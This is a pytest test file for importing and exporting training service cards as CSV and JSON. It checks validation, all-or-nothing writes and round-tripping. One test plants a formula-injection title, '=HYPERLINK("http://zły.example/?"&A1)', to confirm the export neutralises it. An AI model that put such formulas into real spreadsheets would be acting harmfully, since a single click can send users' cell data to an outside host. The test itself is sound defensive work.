"""Import and export of service cards: every row checked, nothing written unless all pass, and
an exported file imports again."""

import csv
import io
import json
import re
from datetime import time
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.utils import translation
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kierunek.catalogue import importexport, services
from kierunek.catalogue.domain import SessionInput, card_problems
from kierunek.catalogue.models import ServiceCard
from kierunek.core.actor import Actor
from kierunek.core.csvsafe import FORMULA_STARTS
from kierunek.core.models import AuditEvent
from tests.catalogue.test_cards import START, card_input
from tests.providers.factories import ProviderFactory, provider_staff_of

pytestmark = pytest.mark.django_db


def row(**overrides):
    data = {
        "title": "Język angielski B1 — kurs konwersacyjny",
        "category": "languages_english",
        "service_type": "training",
        "delivery_form": "in_person",
        "goal": "Swobodna rozmowa.",
        "learning_outcomes": "Uczestnik prowadzi rozmowę na poziomie B1.",
        "programme": "20 spotkań konwersacyjnych.",
        "target_group": "Dorośli na poziomie A2.",
        "participation_conditions": "",
        "technical_requirements": "",
        "hours": "2.8",  # the sessions' 2 hours 45 minutes, within the rule's tolerance
        "gmina": "1261011",
        "street": "ul. Floriańska 3",
        "outside_region_address": "",
        "price_net": "1200.00",
        "price_gross": "1476,00",
        "min_participants": "4",
        "max_participants": "10",
        "enrolment_deadline": START.isoformat(),
        "market_qualification": "",
        "sessions": f"{START.isoformat()} 17:00-19:00 @ sala 2; {START.isoformat()} 19:15-20:00 @ sala 2",
    }
    data.update(overrides)
    return data


def as_csv(rows, delimiter=","):
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), delimiter=delimiter)
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode()


@pytest.fixture
def provider():
    return ProviderFactory()


def test_csv_rows_become_drafts(provider):
    content = as_csv(
        [row(), row(title="Język angielski B2", gmina="1263011", street="ul. Wałowa 1")], delimiter=";"
    )
    result = importexport.cards_import(
        provider=provider, content=content, filename="uslugi.csv", actor=Actor.of(provider_staff_of(provider))
    )
    assert len(result.created) == 2
    card = ServiceCard.objects.get(title="Język angielski B2")
    assert (card.status, card.price_gross, card.gmina.teryt) == ("draft", 147_600, "1263011")
    assert card.sessions.count() == 2
    assert AuditEvent.objects.filter(action="catalogue.cards_imported").exists()


def test_one_bad_row_stops_the_whole_file_and_every_problem_is_reported(provider):
    rows = [
        row(),
        row(title="Bez ceny", price_gross="sto złotych"),
        row(title="Zła gmina", gmina="1299999"),
        row(title="Złe sesje", sessions="jutro rano"),
        row(title=""),
    ]
    with pytest.raises(importexport.ImportRefused) as refused:
        importexport.cards_import(
            provider=provider,
            content=as_csv(rows),
            filename="u.csv",
            actor=Actor.of(provider_staff_of(provider)),
        )
    problems = {(e.row, e.column) for e in refused.value.errors}
    assert {(2, "price_gross"), (3, "gmina"), (4, "sessions"), (5, "title")} <= problems
    assert not ServiceCard.objects.exists()


def test_a_json_file_with_bad_rows_writes_nothing_and_reports_every_row(provider):
    rows = [row(), row(title="Za długo", hours="100000"), row(title="Bez godzin", hours="NaN"), row(title="")]
    with pytest.raises(importexport.ImportRefused) as refused:
        importexport.cards_import(
            provider=provider,
            content=json.dumps(rows).encode(),
            filename="u.json",
            actor=Actor.of(provider_staff_of(provider)),
        )
    problems = {(e.row, e.column) for e in refused.value.errors}
    assert {(2, "hours"), (3, "hours"), (4, "title")} <= problems
    assert not ServiceCard.objects.exists()


def test_a_csv_row_with_more_cells_than_the_header_is_a_row_error(provider):
    content = as_csv([row(), row(title="Drugi")]).decode("utf-8").splitlines()
    content[2] += ",nadmiarowa komórka"
    with pytest.raises(importexport.ImportRefused) as refused:
        importexport.cards_import(
            provider=provider,
            content="\n".join(content).encode("utf-8"),
            filename="u.csv",
            actor=Actor.of(provider_staff_of(provider)),
        )
    assert [(e.row, e.column) for e in refused.value.errors] == [(2, "")]  # the second service
    assert not ServiceCard.objects.exists()


@pytest.mark.parametrize(
    ("hours", "accepted"), [("0.5", True), ("9999.9", True), ("1.25", False), ("10000", False)]
)
def test_hours_have_one_decimal_place_within_the_columns_limit(hours, accepted):
    card, problems = importexport.row_to_input(row(hours=hours))

    assert problems == []
    assert ("hours" not in card_problems(card)) is accepted


def test_duplicates_inside_the_file_are_refused(provider):
    with pytest.raises(importexport.ImportRefused) as refused:
        importexport.cards_import(
            provider=provider,
            content=as_csv([row(), row()]),
            filename="u.csv",
            actor=Actor.of(provider_staff_of(provider)),
        )
    assert [(e.row, e.column) for e in refused.value.errors] == [(2, "title")]
    assert not ServiceCard.objects.exists()


@pytest.mark.parametrize(
    ("filename", "content"),
    [
        ("u.txt", b"x"),
        ("u.json", b"{not json"),
        ("u.json", b'{"title": "x"}'),
        ("u.csv", "ą".encode("utf-16")),
        ("u.csv", b""),
    ],
)
def test_unreadable_files_are_explained(provider, filename, content):
    with pytest.raises(importexport.ImportRefused) as refused:
        importexport.cards_import(
            provider=provider, content=content, filename=filename, actor=Actor.of(provider_staff_of(provider))
        )
    assert refused.value.errors[0].message


def test_export_then_import_gives_the_same_cards(provider):
    staff = provider_staff_of(provider)
    services.card_create(provider=provider, data=card_input(), actor=Actor.of(staff))
    services.card_create(
        provider=provider,
        data=card_input(
            title="Kadry i płace",
            delivery_form="remote_live",
            gmina_teryt="",
            street="",
            technical_requirements="Komputer.",
        ),
        actor=Actor.of(staff),
    )
    other = ProviderFactory()
    for fmt, export in (("csv", importexport.cards_export_csv), ("json", importexport.cards_export_json)):
        content = export(provider=provider).encode()
        result = importexport.cards_import(
            provider=other, content=content, filename=f"u.{fmt}", actor=Actor.of(provider_staff_of(other))
        )
        originals = {
            (c.title, c.price_gross, c.starts_on, c.gmina_id, c.sessions.count())
            for c in provider.service_cards.all()
        }
        copies = {
            (c.title, c.price_gross, c.starts_on, c.gmina_id, c.sessions.count()) for c in result.created
        }
        assert copies == originals
        ServiceCard.objects.filter(provider=other).delete()
    assert json.loads(importexport.cards_export_json(provider=provider))[0]["sessions"][0]["start"] == "09:00"


def test_import_page_reports_rows(client, login_staff, provider, django_capture_on_commit_callbacks):
    login_staff(client, provider_staff_of(provider))
    with django_capture_on_commit_callbacks(execute=True):  # the import job runs after the commit
        response = client.post(
            "/instytucja/uslugi/import/",
            {"file": SimpleUploadedFile("u.csv", as_csv([row(), row(title="Zła gmina", gmina="1299999")]))},
        )
    response = client.get(response["Location"])  # the import job's page
    page = response.content.decode()
    assert response.status_code == 200
    assert ">2<" in page  # the row number of the problem
    assert not ServiceCard.objects.exists()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            "/instytucja/uslugi/import/", {"file": SimpleUploadedFile("u.csv", as_csv([row()]))}
        )
    assert response.status_code == 302
    assert ServiceCard.objects.count() == 1
    exported = client.get("/instytucja/uslugi/eksport.csv")
    assert exported["Content-Type"].startswith("text/csv")
    assert "Język angielski B1" in exported.content.decode()


# --- CSV both ways: quotes, formulas and separators in the text survive export and import -------

TEXT_FIELDS = (
    "title",
    "goal",
    "learning_outcomes",
    "programme",
    "target_group",
    "participation_conditions",
    "technical_requirements",
    "street",
    "outside_region_address",
    "market_qualification",
)


def _text_of(card):
    return {name: getattr(card, name) for name in TEXT_FIELDS} | {
        "places": [s.place for s in card.sessions.order_by("date", "start_time")]
    }


def test_a_card_with_quotes_commas_and_semicolons_in_its_text_imports_again(provider):
    staff = provider_staff_of(provider)
    card = services.card_create(
        provider=provider,
        data=card_input(
            title='Kurs "Excel", poziom 1; z certyfikatem',
            goal='Cel: "tabele przestawne",\nformuły; wykresy.',
            hours=Decimal("7.5"),
            sessions=(SessionInput(START, time(9), time(17), 'sala "A"; piętro 2, wejście C:\\B'),),
        ),
        actor=Actor.of(staff),
    )
    other = ProviderFactory()

    result = importexport.cards_import(
        provider=other,
        content=importexport.cards_export_csv(provider=provider).encode(),
        filename="u.csv",
        actor=Actor.of(provider_staff_of(other)),
    )

    assert [_text_of(copy) for copy in result.created] == [_text_of(card)]


def test_a_semicolon_file_with_doubled_quotes_and_commas_is_read_by_rfc_4180(provider):
    content = as_csv([row(title='Kurs "Excel", poziom 1', goal="Tabele, wykresy, formuły.")], delimiter=";")

    result = importexport.cards_import(
        provider=provider, content=content, filename="u.csv", actor=Actor.of(provider_staff_of(provider))
    )

    assert [(c.title, c.goal) for c in result.created] == [
        ('Kurs "Excel", poziom 1', "Tabele, wykresy, formuły.")
    ]


def test_the_exported_file_has_no_cell_a_spreadsheet_runs_and_imports_to_the_formula_text(provider):
    staff = provider_staff_of(provider)
    services.card_create(
        provider=provider,
        data=card_input(title='=HYPERLINK("http://zły.example/?"&A1)', goal="@SUM(1+1)", street="-2+3"),
        actor=Actor.of(staff),
    )
    exported = importexport.cards_export_csv(provider=provider)
    cells = [
        cell
        for line in csv.reader(io.StringIO(exported.lstrip("\ufeff"), newline=""), delimiter=";")
        for cell in line
    ]

    assert formulas(exported) == []
    assert '\'=HYPERLINK("http://zły.example/?"&A1)' in cells
    other = ProviderFactory()
    (copy,) = importexport.cards_import(
        provider=other, content=exported.encode(), filename="u.csv", actor=Actor.of(provider_staff_of(other))
    ).created
    assert (copy.title, copy.goal, copy.street) == (
        '=HYPERLINK("http://zły.example/?"&A1)',
        "@SUM(1+1)",
        "-2+3",
    )


def test_a_badly_quoted_file_is_refused_with_its_line_in_polish_and_english(provider):
    content = as_csv([row(), row(title="Drugi")], delimiter=";").decode().splitlines()
    content[2] = '"Drugi" kurs' + content[2][len("Drugi") :]  # text after the closing quote
    for language, words in (("pl", "Wiersz 3 pliku"), ("en", "Line 3 of the file")):
        with translation.override(language), pytest.raises(importexport.ImportRefused) as refused:
            importexport.cards_import(
                provider=provider,
                content="\n".join(content).encode(),
                filename="u.csv",
                actor=Actor.of(provider_staff_of(provider)),
            )
        assert [(e.row, e.column) for e in refused.value.errors] == [(2, "")]
        assert words in refused.value.errors[0].message
    assert not ServiceCard.objects.exists()


def test_the_import_page_explains_a_badly_quoted_file(client, login_staff, provider):
    login_staff(client, provider_staff_of(provider))
    content = as_csv([row()], delimiter=";") + b'"niedomkni\xc4\x99ty;cudzys\xc5\x82\xc3\xb3w\r\n'

    response = client.post("/instytucja/uslugi/import/", {"file": SimpleUploadedFile("u.csv", content)})

    assert response.status_code == 200
    assert "Wiersz 3 pliku" in response.content.decode()
    assert not ServiceCard.objects.exists()


DB_TEXT = st.one_of(
    st.text(alphabet=st.sampled_from(list("\"';,\t\r\n=+-@\\ aąćęłńóśźżĄĆĘŁŃÓŚŹŻ1.")), max_size=15),
    # Any text PostgreSQL can hold (no NUL) and UTF-8 can carry (no lone surrogate).
    st.text(alphabet=st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), max_size=30),
)
FILLED = DB_TEXT.filter(lambda text: text.strip())


def formulas(exported: str) -> list[str]:
    """The cells a spreadsheet splitting the file at ';' would run: those starting with a formula
    character, except plain numbers such as -5 or -1234,50."""
    lines = csv.reader(io.StringIO(exported.lstrip("\ufeff"), newline=""), delimiter=";")
    return [
        cell
        for line in lines
        for cell in line
        if cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"-[0-9]+(?:[.,][0-9]+)?", cell)
    ]


@st.composite
def cards(draw):
    """A card whose every text field holds drawn text, inside or outside Małopolska."""
    in_region = draw(st.booleans())
    return card_input(
        title=draw(FILLED),
        goal=draw(FILLED),
        learning_outcomes=draw(FILLED),
        programme=draw(FILLED),
        target_group=draw(FILLED),
        participation_conditions=draw(DB_TEXT),
        technical_requirements=draw(DB_TEXT),
        gmina_teryt="1261011" if in_region else "",
        street=draw(FILLED) if in_region else draw(DB_TEXT),
        outside_region_address="" if in_region else draw(FILLED),
        market_qualification=draw(DB_TEXT),
        hours=Decimal(5),
        sessions=(
            SessionInput(START, time(9), time(12), draw(FILLED)),
            SessionInput(START, time(13), time(15), draw(FILLED)),
        ),
    )


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=cards())
def test_export_then_import_round_trips_any_text_in_every_text_field(provider, data):
    other = ProviderFactory()
    with transaction.atomic():
        card = services.card_create(provider=provider, data=data, actor=Actor.of(provider_staff_of(provider)))
        exported = importexport.cards_export_csv(provider=provider)

        (copy,) = importexport.cards_import(
            provider=other,
            content=exported.encode(),
            filename="u.csv",
            actor=Actor.of(provider_staff_of(other)),
        ).created

        assert _text_of(copy) == _text_of(card)
        assert formulas(exported) == []
        transaction.set_rollback(True)
